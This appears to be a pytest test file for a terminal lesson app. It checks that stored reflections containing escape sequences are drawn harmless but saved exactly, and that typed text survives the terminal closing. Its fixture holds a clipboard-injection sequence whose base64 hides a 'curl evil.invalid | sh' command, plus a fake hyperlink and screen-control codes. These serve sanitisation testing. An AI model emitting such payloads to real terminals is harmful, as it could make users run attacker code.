"""What reaches a real terminal: saved text drawn harmless, and typing kept when it closes."""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path

import pytest

from progress import database_path, open_store
from tests.terminal.pty_app import PtyApp

LESSON, STEP = "what-trd-means", "the-label"
EVIL = (
    "before \x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\x07 \x1b]8;;https://evil.invalid\x07"
    "link\x1b]8;;\x07 \x1b[2J \x9b31m \u202e after"
)


def at_reflection(data: Path, text: str = "") -> None:
    opened = open_store(database_path(data))
    with opened.store as store:
        store.acknowledge_first_run()
        if text:
            store.save_reflection(LESSON, STEP, text)
        store.set_position(LESSON, STEP)


def saved(data: Path) -> str | None:
    with open_store(database_path(data)).store as store:
        found = store.reflection(LESSON, STEP)
    return None if found is None else found.text


def test_a_reflection_holding_terminal_controls_is_drawn_harmless_and_kept_exact(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    at_reflection(data, EVIL)
    app = PtyApp(data, tmp_path)
    app.wait_for(b"Continue")
    app.send(b"c")
    app.wait_for(b"after")
    app.send(b"\x11")  # Ctrl+Q
    assert app.finish() == 0
    drawn = app.output
    for sequence in (
        b"\x1b]52",
        b"\x1b]8;;https://evil",
        b"\x1b[2J",
        b"\xc2\x9b",
        "\u202e".encode(),
    ):
        assert sequence not in drawn, sequence
    assert "␛".encode() in drawn, "the controls are shown, not hidden"
    assert saved(data) == EVIL, "the stored text is byte for byte what was saved"


@pytest.mark.parametrize("signum", [signal.SIGHUP, signal.SIGTERM])
def test_closing_the_terminal_while_typing_keeps_what_was_typed(
    tmp_path: Path, signum: int
) -> None:
    data = tmp_path / "data"
    at_reflection(data)
    app = PtyApp(data, tmp_path)
    app.wait_for(b"Continue")
    app.send(b"c")
    app.wait_for(b"Write as much")
    app.send(b"\r")  # into the box
    app.read(0.3)
    typed = ""
    end = time.monotonic() + 2.5
    while time.monotonic() < end:  # continuous typing: no pause for the debounce
        app.send(b"x")
        typed += "x"
        app.read(0.05)
    os.killpg(app.process.pid, signum)
    app.finish()
    kept = saved(data) or ""
    assert len(kept) >= len(typed) - 40, (len(kept), len(typed))  # all but the last 2 s at most
    assert set(kept) <= {"x"}
